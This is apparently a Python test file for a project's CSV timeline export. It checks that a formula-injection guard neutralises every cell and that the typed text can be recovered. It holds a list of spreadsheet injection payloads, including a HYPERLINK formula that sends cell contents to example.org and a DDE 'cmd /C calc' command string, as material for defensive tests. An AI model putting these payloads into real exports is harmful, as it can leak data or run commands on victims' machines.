"""The table of the timeline: no cell of it is a formula, and nothing that was typed is lost (EX-01)."""

import csv
import io
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from runbook.exports import FORMATS
from runbook.exports.cells import BORDERS, TRIGGERS, cell, original
from runbook.exports.formats import csv_timeline
from tests.exports.long_run import long_run
from tests.exports.records import handout

FORMULA = 'HYPERLINK("https://example.org/?x="&A1,"look")'
PAYLOADS = (
    *(f"{sign}{FORMULA}" for sign in "=+-@"),
    *(f"{sign}1+1" for sign in "\t\r\n"),
    *(f"{sign}1+1" for sign in "\uff1d\uff0b\uff0d\uff20"),
    *(f"{sign}1+1" for sign in "\ufe66\ufe62\ufe63\ufe6b\u2212"),
    *(f" {sign}1+1" for sign in "=+-@"),
    *(
        f"{blank}=1+1"
        for blank in ("   ", "\u00a0", "\u200b", "\ufeff", "\u2003", "\x00", "\u202e")
    ),
    *(f'"{sign}1+1"' for sign in "=+-@"),
    *(f"'{sign}1+1" for sign in "=+-@"),
    *(f"a{border}=1+1" for border in ",;|\t\r\n"),
    *(f"a{border} @SUM(1)" for border in ",;|\t"),
    *("\r\n=1+1", "a\r\n=1+1", "\n\n=1", 'a","=1+1', 'a";"=1+1', 'a"\t"=1+1'),
    *("=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1;=2,=3|=4", '""=1', '"";=1'),
    *("''=1", "'", "'text", "a,'b", "-", "=", " ", ""),
)


def rows(written: bytes, *, separator: str = ",") -> list[list[str]]:
    text = written.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))


def with_words(words: str) -> bytes:
    """The table of a run whose only entry holds the words everywhere."""
    made = handout(long_run()[:1])
    line = replace(made.report.lines[0], headline=words, detail=words, actor=words)
    return csv_timeline.render(replace(made, report=replace(made.report, lines=(line,))))


def acting(cells: list[str]) -> list[str]:
    """Cells that begin with a trigger, or would once somebody trims them."""
    trimmed = ((each, each.lstrip(" \u00a0\u200b\ufeff\u2003\x00\u202e'\"")) for each in cells)
    return [
        each
        for each, rest in trimmed
        if (each[:1] in TRIGGERS and each) or (rest[:1] in TRIGGERS and rest and "'" not in each)
    ]


def test_there_are_sixty_payloads() -> None:
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_no_cell_begins_with_a_trigger(payload: str, separator: str) -> None:
    """With the right separator, and with the one that a program of another country expects."""
    cells = [each for row in rows(with_words(payload), separator=separator) for each in row]

    assert acting(cells) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_was_typed_comes_back(payload: str) -> None:
    heads, row = rows(with_words(payload))
    found = dict(zip(heads, row, strict=True))

    assert [original(found[name]) for name in ("What", "More", "By")] == [payload] * 3


def test_without_the_guard_the_payloads_act(monkeypatch: pytest.MonkeyPatch) -> None:
    """Negative control: the eyes of these tests are open."""
    monkeypatch.setattr(csv_timeline, "cell", lambda text: text)
    found = [
        payload
        for payload in PAYLOADS
        if any(
            acting([each for row in rows(with_words(payload), separator=separator) for each in row])
            for separator in ",;\t|"
        )
    ]

    assert len(found) > 40


@given(st.text(alphabet=st.sampled_from("=+-@'\", ;|\t\r\na1\u200b")))
def test_every_text_comes_back(text: str) -> None:
    assert original(cell(text)) == text


@given(st.text(alphabet=st.sampled_from("=+-@'\", ;|\t\r\na\u200b")))
def test_no_border_inside_a_cell_lets_one_begin(text: str) -> None:
    guarded = cell(text)
    begins = [0, *(place + 1 for place, each in enumerate(guarded) if each in BORDERS)]

    assert [guarded[place:] for place in begins if guarded[place : place + 1] in set("=+-@")] == []


def test_what_is_harmless_stays_as_it_is() -> None:
    for text in ("a, b; c", "2026-11-21 21:00:00", "4.50.2 -> 4.50.6", 'he said "no"', "x = 1"):
        assert cell(text) == text


def test_the_table_is_as_the_standard_says() -> None:
    written = FORMATS["csv"].render(handout(long_run()))
    text = written.decode()
    heads, *found = rows(written)

    assert written.startswith(b"\xef\xbb\xbf")
    assert text.endswith("\r\n")
    assert "\n" not in text.replace("\r\n", "")
    assert len(found) == len(long_run())
    assert {len(row) for row in (heads, *found)} == {len(csv_timeline.COLUMNS)}
    assert [row[1] for row in found] == [str(number + 1) for number in range(len(found))]


def test_one_row_says_it_all() -> None:
    heads, *found = rows(FORMATS["csv"].render(handout(late=9)))
    row = dict(zip(heads, found[-1], strict=True))

    assert row["Happened UTC"] == "2026-11-21 21:30:00"
    assert row["Happened local"] == "2026-11-21 22:30:00+01:00"
    assert (row["Late"], row["Deviates"]) == ("yes", "yes")
    assert (row["Kind"], row["Event"], row["By"]) == ("note", "note.added", "Ana")
    assert row["More"] == "Called @octocat about #123"
    assert row["Head of the record"].startswith(row["Hash"])
